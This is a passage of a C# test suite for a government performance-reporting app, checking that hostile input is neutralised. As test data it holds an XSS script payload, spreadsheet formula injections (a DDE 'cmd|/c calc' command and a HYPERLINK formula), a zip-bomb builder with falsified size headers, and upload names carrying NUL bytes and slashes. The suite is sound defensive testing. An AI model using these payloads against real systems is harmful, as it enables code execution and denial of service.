            code = "IKU-91", name = IndicatorName, objectiveId = ids.Objective, unitId = unit.GetProperty("id").GetGuid(), measure = Measure,
            polarity = "higher", aggregation = "last", definition = "-2+3", dataSource = "@A1",
        }, HttpStatusCode.Created);
        // A target for the year, so the indicator and its unit are in the recap too.
        var target = await coordinator.PutAsJsonAsync($"/api/v1/indicators/{indicator.GetProperty("id").GetGuid()}/targets/2026",
            new { annual = 10, quarters = new[] { 10, 10, 10, 10 } });
        target.StatusCode.ShouldBe(HttpStatusCode.OK, await target.Content.ReadAsStringAsync());
        var put = await kasi.PutAsJsonAsync($"/api/v1/worksheets/{ids.Sheet}/lines/{ids.Line}", new { realization = 1, explanation = Explanation });
        put.StatusCode.ShouldBe(HttpStatusCode.OK, await put.Content.ReadAsStringAsync());

        var plan = await Download(coordinator, $"/api/v1/agencies/{ids.Agency}/plan.xlsx");
        var sheet = await Download(kasi, $"/api/v1/worksheets/{ids.Sheet}/xlsx");
        var recap = await Download(coordinator, $"/api/v1/agencies/{ids.Agency}/recap.xlsx?period=2026-Q1");
        var planTexts = InertTexts(plan);
        planTexts.ShouldContain(UnitName);
        planTexts.ShouldContain(IndicatorName);
        planTexts.ShouldContain(Measure);
        planTexts.ShouldContain("-2+3");
        planTexts.ShouldContain("@A1");
        InertTexts(sheet).ShouldContain(Explanation);
        var recapTexts = InertTexts(recap);
        recapTexts.ShouldContain(IndicatorName);
        recapTexts.ShouldContain(UnitName);

        // What the plan export wrote reads back as the same text (the import takes it as a name, not a formula).
        using var read = new MemoryStream(plan);
        Kinerja.Documents.PlanWorkbook.Read(read).Problems.Where(p => p.Message.ToString().Contains("rumus", StringComparison.Ordinal)).ShouldBeEmpty();
    }

    [Fact]
    public async Task Script_in_text_fields_shows_escaped_on_the_pages_that_display_it()
    {
        var ids = await SetUpAsync("2026-M08");
        const string Script = "<script>alert('kinerja')</script>";
        var coordinator = await f.SignedInAsync(Coordinator);
        var admin = await f.SignedInAsync(AgencyAdmin);
        var kasi = await f.SignedInAsync(Kasi);
        var unit = await admin.PostJson($"/api/v1/agencies/{ids.Agency}/units", new { name = "Seksi " + Script }, HttpStatusCode.Created);
        var indicator = await coordinator.PostJson($"/api/v1/agencies/{ids.Agency}/indicators", new
        {
            code = "IKU-92", name = "Indikator " + Script, objectiveId = ids.Objective, unitId = ids.Unit, measure = "<b>%</b>",
            polarity = "higher", aggregation = "last", definition = Script,
        }, HttpStatusCode.Created);
        (await kasi.PutAsJsonAsync($"/api/v1/worksheets/{ids.Sheet}/lines/{ids.Line}", new { realization = 1, explanation = "Penjelasan " + Script }))
            .StatusCode.ShouldBe(HttpStatusCode.OK);
        await kasi.PostJson($"/api/v1/worksheets/{ids.Sheet}/lines/{ids.Line}/comments", new { text = "Komentar " + Script }, HttpStatusCode.Created);
        var version = (await coordinator.GetJson($"/api/v1/reports/{ids.Report}")).GetProperty("sections").EnumerateArray()
            .Single(x => x.GetProperty("key").GetString() == "executive-summary").GetProperty("version");
        var put = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/reports/{ids.Report}/sections/executive-summary") { Content = JsonContent.Create(new { text = "Ringkasan " + Script }) };
        if (version.ValueKind == JsonValueKind.Number) put.Headers.TryAddWithoutValidation("If-Match", $"\"{version.GetInt32()}\"");
        var section = await coordinator.SendAsync(put);
        section.StatusCode.ShouldBe(HttpStatusCode.OK, await section.Content.ReadAsStringAsync());

        var pages = new Dictionary<string, string>
        {
            [$"/Worksheets/{ids.Sheet}"] = Kasi,
            [$"/Plan/Indicator/{indicator.GetProperty("id").GetGuid()}"] = Coordinator,
            [$"/Admin/Units/Details/{unit.GetProperty("id").GetGuid()}"] = AgencyAdmin,
            [$"/Reports/Details/{ids.Report}"] = Coordinator,
            ["/Recap?period=2026-Q1"] = Coordinator,
        };
        foreach (var (url, user) in pages)
        {
            var browser = await f.SignInPagesAsync(user);
            var response = await browser.GetAsync(url);
            var html = await response.Content.ReadAsStringAsync();
            response.StatusCode.ShouldBe(HttpStatusCode.OK, url);
            html.ShouldNotContain(Script, Shouldly.Case.Sensitive, $"{url} shows the script as markup");
            html.ShouldNotContain("<b>%</b>", Shouldly.Case.Sensitive, url);
            if (url != "/Recap?period=2026-Q1") html.ShouldContain("&lt;script&gt;alert(", Shouldly.Case.Sensitive, $"{url} does not show the text escaped");
        }
    }

    [Fact]
    public async Task Control_characters_kept_in_text_do_not_break_the_generated_documents()
    {
        await RecapScenario.EnsurePasrujambeAsync(f);
        var agency = await f.AgencyIdAsync(Pasrujambe);
        var coordinator = await f.SignedInAsync(Coordinator);
        var report = (await coordinator.PostJson($"/api/v1/agencies/{agency}/reports", new { kind = "quarterly", period = "2026-Q3" }, HttpStatusCode.Created))
            .GetProperty("id").GetGuid();
        // A narrative typed with a stray control key (bell, escape) is kept; the next version must still be written.
        (await coordinator.PutAsJsonAsync($"/api/v1/reports/{report}/sections/executive-summary", new { text = "Ringkasan \u0007bel \u001besc selesai." }))
            .StatusCode.ShouldBe(HttpStatusCode.OK);
        var regenerated = await coordinator.PostAsJsonAsync($"/api/v1/reports/{report}/versions", new { reason = "Narasi diperbarui." });
        regenerated.StatusCode.ShouldBe(HttpStatusCode.OK, await regenerated.Content.ReadAsStringAsync());
        var docx = await coordinator.GetAsync($"/api/v1/reports/{report}/document.docx");
        docx.StatusCode.ShouldBe(HttpStatusCode.OK);
        using var doc = DocumentFormat.OpenXml.Packaging.WordprocessingDocument.Open(new MemoryStream(await docx.Content.ReadAsByteArrayAsync()), false);
        doc.MainDocumentPart!.Document.Body!.InnerText.ShouldContain("Ringkasan bel esc selesai.");
    }

    [Fact]
    public async Task A_json_fault_inside_the_server_is_a_500_while_a_malformed_body_is_a_400_with_a_message()
    {
        var ids = await SetUpAsync("2026-M09");
        // Stored JSON the server cannot read (a damaged notification) is the server's fault: 500 with the trace code, not a 400.
        var kasi = await f.SignedInAsync(Kasi);
        await using (var db = f.NewDbContext())
        {
            var user = await db.Users.Where(u => u.UserName == Kasi).Select(u => u.Id).SingleAsync();
            var n = await db.Notifications.Where(x => x.UserId == user).FirstOrDefaultAsync();
            n.ShouldNotBeNull("the kasi has a notification of the round opened for the unit");
            await db.Database.ExecuteSqlAsync($"UPDATE \"Notifications\" SET \"ArgsJson\" = {"{not json"} WHERE \"Id\" = {n.Id}");
        }

        var fault = await kasi.GetAsync("/api/v1/me/notifications");
        var body = await fault.Content.ReadAsStringAsync();
        fault.StatusCode.ShouldBe(HttpStatusCode.InternalServerError, body);
        fault.Content.Headers.ContentType?.MediaType.ShouldBe("application/problem+json");
        body.ShouldNotContain("JsonException");

        var coordinator = await f.SignedInAsync(Coordinator);
        // A malformed body read by the endpoint itself (the step's note): the request's fault, said so.
        var malformed = await coordinator.PostAsync($"/api/v1/rounds/{ids.Round}/steps/{ids.ManualStep}/complete", new StringContent("{\"note\": ", Encoding.UTF8, "application/json"));
        var problem = await malformed.Problem(HttpStatusCode.BadRequest);
        problem.TryGetProperty("detail", out var detail).ShouldBeTrue(problem.GetRawText());
        detail.GetString().ShouldNotBeNullOrWhiteSpace();

        (await f.CreateClient().GetAsync("/health")).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    private long AuditHead()
    {
        using var db = f.NewDbContext();
        return db.AuditHeads.AsNoTracking().Single().Sequence;
    }

    /// <summary>Pasrujambe with its verified rounds, a fresh round of <paramref name="period"/> (draft worksheets) and a quarterly report.</summary>
    private async Task<Ids> SetUpAsync(string period)
    {
        var s = await HostileScenario.SetUpAsync(f, period);
        var (agency, unit, report, coordinator) = (s.Agency, s.Unit, s.Report, s.Coordinator);
        var objective = (await coordinator.GetJson($"/api/v1/agencies/{agency}/objectives"))[0].GetProperty("id").GetGuid();
        var position = (await coordinator.GetJson($"/api/v1/agencies/{agency}/positions"))[0].GetProperty("id").GetGuid();
        var etags = new Dictionary<string, string>();
        var admin = await f.SignedInAsync(AgencyAdmin);
        foreach (var url in new[] { $"/api/v1/agencies/{agency}", $"/api/v1/agencies/{agency}/achievement-rules", $"/api/v1/agencies/{agency}/units/{unit}" })
        {
            var response = await admin.GetAsync(url);
            response.StatusCode.ShouldBe(HttpStatusCode.OK, url);
            etags[url] = response.Headers.ETag!.Tag;
        }

        var summary = (await coordinator.GetJson($"/api/v1/reports/{report}")).GetProperty("sections").EnumerateArray()
            .Single(x => x.GetProperty("key").GetString() == "executive-summary").GetProperty("version");
        if (summary.ValueKind == JsonValueKind.Number) etags[$"/api/v1/reports/{report}/sections/executive-summary"] = $"\"{summary.GetInt32()}\"";
        return new Ids(agency, unit, s.Round, s.Sheet, s.Line, s.BudgetLine, s.Indicator, objective, report, position, s.ManualStep, etags);
    }

    /// <summary>A multipart form with one file, written byte by byte: the name goes out as a hostile client sends it (NUL, slashes, any length).</summary>
    private static ByteArrayContent Upload(byte[] bytes, string name)
    {
        const string Boundary = "kinerja-hostile-boundary";
        var body = new MemoryStream();
        body.Write(Encoding.UTF8.GetBytes($"--{Boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"));
        body.Write(bytes);
        body.Write(Encoding.UTF8.GetBytes($"\r\n--{Boundary}--\r\n"));
        var content = new ByteArrayContent(body.ToArray());
        content.Headers.ContentType = MediaTypeHeaderValue.Parse($"multipart/form-data; boundary={Boundary}");
        return content;
    }

    private static MultipartFormDataContent Fields(params (string Name, string Value)[] fields)
    {
        var form = new MultipartFormDataContent();
        foreach (var (name, value) in fields) form.Add(new StringContent(value), name);
        return form;
    }

    private static byte[] RandomBytes(int length)
    {
        var bytes = new byte[length];
        new Random(8).NextBytes(bytes);
        return bytes;
    }

    private static byte[] EmptyZip()
    {
        var ms = new MemoryStream();
        using (new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true)) { }
        return ms.ToArray();
    }

    /// <summary>
    /// A few hundred kilobytes that inflate to <paramref name="inflated"/> bytes of spaces in a sheet part. With <paramref name="lie"/>
    /// the zip's headers claim the part is 1 000 bytes, so only inflating it shows the truth.
    /// </summary>
    private static byte[] ZipBomb(int inflated, bool lie)
    {
        var ms = new MemoryStream();
        using (var zip = new ZipArchive(ms, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var types = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open()))
                types.Write("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            using var s = zip.CreateEntry("xl/worksheets/sheet1.xml", CompressionLevel.SmallestSize).Open();
            var chunk = new byte[1024 * 1024];
            Array.Fill(chunk, (byte)' ');
            for (var i = 0; i < inflated / chunk.Length; i++) s.Write(chunk);
        }

        var bytes = ms.ToArray();
        if (!lie) return bytes;
        // Uncompressed size: offset 22 of a local header (PK 3 4), 24 of a central directory header (PK 1 2), of the sheet's entry.
        for (var i = 0; i < bytes.Length - 46; i++)
        {
            if (bytes[i] != 'P' || bytes[i + 1] != 'K') continue;
            var at = bytes[i + 2] == 3 && bytes[i + 3] == 4 ? i + 22 : bytes[i + 2] == 1 && bytes[i + 3] == 2 ? i + 24 : -1;
            if (at < 0 || BitConverter.ToUInt32(bytes, at) != (uint)(inflated / (1024 * 1024) * 1024 * 1024)) continue;
            BitConverter.GetBytes(1000u).CopyTo(bytes, at);
        }

        return bytes;
    }

    /// <summary>The agency's plan export with a formula typed into the first indicator's name.</summary>
    private byte[] PlanWithFormula(Ids ids)
    {
        var exported = Task.Run(async () => await Download(await f.SignedInAsync(Coordinator), $"/api/v1/agencies/{ids.Agency}/plan.xlsx")).GetAwaiter().GetResult();
        return Edit(exported, (wb, ws) =>
        {
            var cell = ws.Descendants<Row>().Skip(1).First().Elements<Cell>().Skip(1).First();
            cell.CellFormula = new CellFormula("HYPERLINK(\"http://contoh.invalid\",\"x\")");
            cell.DataType = CellValues.String;
        }, "Indikator");
    }

    /// <summary>The agency's plan export with <paramref name="text"/> as the first indicator's name (as an inline string, escapes undecoded).</summary>
    private byte[] PlanWithText(Ids ids, string text)
    {
        var exported = Task.Run(async () => await Download(await f.SignedInAsync(Coordinator), $"/api/v1/agencies/{ids.Agency}/plan.xlsx")).GetAwaiter().GetResult();
        return Edit(exported, (wb, ws) => Set(ws.Descendants<Row>().Skip(1).First().Elements<Cell>().Skip(1).First(), text), "Indikator");
    }

    /// <summary>The worksheet's export with <paramref name="text"/> as a line's explanation and a realization.</summary>
    private byte[] WorksheetWithText(Ids ids, string text)
    {
        var exported = Task.Run(async () => await Download(await f.SignedInAsync(Kasi), $"/api/v1/worksheets/{ids.Sheet}/xlsx")).GetAwaiter().GetResult();
        return Edit(exported, (wb, ws) =>
        {
            var row = ws.Descendants<Row>().First(r => r.Elements<Cell>().Any(c => c.CellReference!.Value!.StartsWith('A') && (Text(wb, c) ?? "").Contains('-')));
            Set(CellOf(row, "H"), 1m);
            Set(CellOf(row, "I"), text);
        });
    }

    /// <summary>The worksheet's export with formulas in a line's realization and explanation.</summary>
    private byte[] WorksheetWithFormula(Ids ids)
    {
        var exported = Task.Run(async () => await Download(await f.SignedInAsync(Kasi), $"/api/v1/worksheets/{ids.Sheet}/xlsx")).GetAwaiter().GetResult();
        return Edit(exported, (wb, ws) =>
        {
            var row = ws.Descendants<Row>().First(r => r.Elements<Cell>().Any(c => c.CellReference!.Value!.StartsWith('A') && (Text(wb, c) ?? "").Contains('-')));
            CellOf(row, "H").CellFormula = new CellFormula("SUM(1,2)");
            CellOf(row, "I").CellFormula = new CellFormula("cmd|'/c calc'!A1");
        });
    }

    private static async Task<byte[]> Download(HttpClient client, string url)
    {
        var response = await client.GetAsync(url);
        response.StatusCode.ShouldBe(HttpStatusCode.OK, url);
        response.Content.Headers.ContentType!.MediaType.ShouldBe(Xlsx);
        return await response.Content.ReadAsByteArrayAsync();
    }

    /// <summary>
    /// Every text of every sheet, after checking that no cell holds a formula, that text is stored as a string, and that text a spreadsheet
    /// would take for a formula (= + - @) has a quote-prefixed style, so it stays text when someone edits the cell.
    /// </summary>
    private static List<string> InertTexts(byte[] xlsx)
    {
        using var doc = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        var wb = doc.WorkbookPart!;
        var texts = new List<string>();
        foreach (var part in wb.WorksheetParts)
        {
            part.Worksheet.Descendants<CellFormula>().ShouldBeEmpty("an exported cell holds a formula");
            foreach (var cell in part.Worksheet.Descendants<Cell>())
            {
                if (cell.DataType?.Value is { } type && (type == CellValues.SharedString || type == CellValues.InlineString || type == CellValues.String))
                {
                    var text = Text(wb, cell) ?? "";
                    texts.Add(text);
                    if (text.Length > 0 && text[0] is '=' or '+' or '-' or '@')
                    {
                        var format = wb.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ElementAt((int)(cell.StyleIndex?.Value ?? 0));
                        (format.QuotePrefix?.Value ?? false).ShouldBeTrue($"cell {cell.CellReference} holds \"{text}\" without a quote prefix");
                    }
                }
                else if (cell.CellValue?.Text is { Length: > 0 } raw)
                {
                    // A number cell: must be a number, never text that a spreadsheet might evaluate.
                    double.TryParse(raw, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _)
                        .ShouldBeTrue($"cell {cell.CellReference} holds \"{raw}\" as a number");
                }
            }
        }

        return texts;
    }

    private static string Shorten(string text, int max = 120) => text.Length <= max ? text : text[..max] + "…";
}

public sealed class HostileInputTestsOnSqlite(SqliteFixture f) : HostileInputTests(f), IClassFixture<SqliteFixture>;

public sealed class HostileInputTestsOnPostgres(PostgresFixture f) : HostileInputTests(f), IClassFixture<PostgresFixture>;
